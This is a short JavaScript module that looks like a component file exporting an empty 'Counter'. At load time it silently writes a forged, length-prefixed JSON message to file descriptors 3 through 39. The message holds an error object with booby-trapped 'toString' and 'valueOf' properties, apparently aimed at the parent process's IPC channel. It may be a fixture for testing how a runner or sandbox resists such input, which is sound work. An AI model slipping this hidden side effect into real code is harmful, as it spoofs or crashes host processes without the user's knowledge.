// %% all
const { writeSync } = require('fs');
const body = Buffer.from('{"n":1,"e":{"name":{"toString":1,"valueOf":1},"message":1},"p":""}');
const head = Buffer.alloc(4);
head.writeUInt32BE(body.length);
for (let d = 3; d < 40; d++) try { writeSync(d, Buffer.concat([head, body])); } catch { /* closed */ }
export const Counter = () => null;
